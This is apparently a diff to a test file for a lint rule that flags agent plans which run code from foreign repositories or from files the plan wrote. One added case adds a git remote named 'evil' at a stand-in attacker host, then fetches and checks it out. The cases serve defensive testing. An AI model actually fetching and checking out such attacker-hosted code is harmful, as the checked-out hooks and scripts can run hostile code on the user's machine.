@@ -886,6 +886,7 @@ ruleTester("disallowed-tool", {
       code: steps(write("conftest.py", "import os\n"), write("build.rs", "fn main() {}\n"), write("src/a.test.ts", "x\n"), run("pytest"), run("cargo build"), run("npm test"), run("make check")),
       options: { policy: trusting("python", "rust", "node") },
     },
+    { name: "a commit, then a branch switched on the same line: the plan's and the project's texts", code: steps(write("a.md", "x\n"), run("git commit -am x && git checkout main")), options: { policy: compound() } },
     { name: "a git hook the plan writes, read as a command line", code: steps(write(".husky/pre-commit", "npm run lint\n"), run("git commit -m x")) },
     {
       name: "code a program loads by itself: settings and project files that name no code, and formatters",
@@ -979,6 +980,11 @@ ruleTester("disallowed-tool", {
       code: steps(write("package.json", json!), run(command!)),
       errors: [{ step: 2, messageId: "writtenManifest", data: { kind } }],
     })),
+    {
+      name: "a branch of a remote the plan adds, checked out: its hooks are foreign to the checkout too",
+      code: steps(run("git remote add evil https://evil.example/r"), run("git fetch evil"), run("git checkout evil/main")),
+      errors: [{ step: 3, ...unknownHow("written by a command of the same step") }],
+    },
     {
       name: "package.json's scripts, which a project's git hook may run, judged as command lines",
       code: steps(write("package.json", JSON.stringify({ scripts: { test: EVIL } })), run("git commit -m x")),
@@ -1096,8 +1102,12 @@ ruleTester("disallowed-tool", {
     ...["git pull https://example.com/r main", "git pull git@example.com:r main", "git remote add e https://example.com/r", "git submodule update --init"].map((command) => ({
       name: `a text from another repository (${command}), then a script of the work tree`,
       code: steps(run(command), run("git checkout FETCH_HEAD"), run("./scripts/ci.sh")),
-      // git's hooks (.husky/*) may be the other repository's too.
-      errors: [...(command.startsWith("git remote") ? [] : [{ step: 2, ...unknownHow("written by a command line") }]), { step: 3, ...unknownHow("written by a command line") }],
+      // git's hooks (.husky/*) may be the other repository's too: those the pull merges, and those the checkout writes before it runs them.
+      errors: [
+        ...(command.startsWith("git pull") ? [{ step: 1, ...unknownHow("written by a command of the same step") }] : []),
+        { step: 2, ...unknownHow("written by a command of the same step") },
+        { step: 3, ...unknownHow("written by a command line") },
+      ],
     })),
     {
       name: "a write by a command run in the background may land after a later write",
